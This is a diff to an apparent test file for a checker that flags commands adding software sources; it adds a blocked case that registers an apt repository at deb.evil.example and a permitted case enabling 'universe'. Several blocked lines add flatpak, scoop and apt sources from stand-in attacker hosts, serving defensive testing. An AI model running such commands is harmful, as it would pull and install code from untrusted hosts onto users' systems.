@@ -14,11 +14,13 @@ describe("other places from which the system takes its programs", () => {
       "brew tap someone/tools",
       "flatpak remote-add --user evil https://evil.example/repo",
       "scoop bucket add evil https://git.evil.example/bucket",
+      "sudo add-apt-repository universe 'deb https://deb.evil.example/ stable main'",
     ],
     passed: [
       "sudo apt-get update && sudo apt-get install -y jq",
       "apt-key list",
       "add-apt-repository --list",
+      "sudo add-apt-repository -y universe",
       "dnf repolist --enabled",
       "sudo dnf config-manager --set-enabled crb",
       "rpm -q --queryformat '%{NAME}' bash",
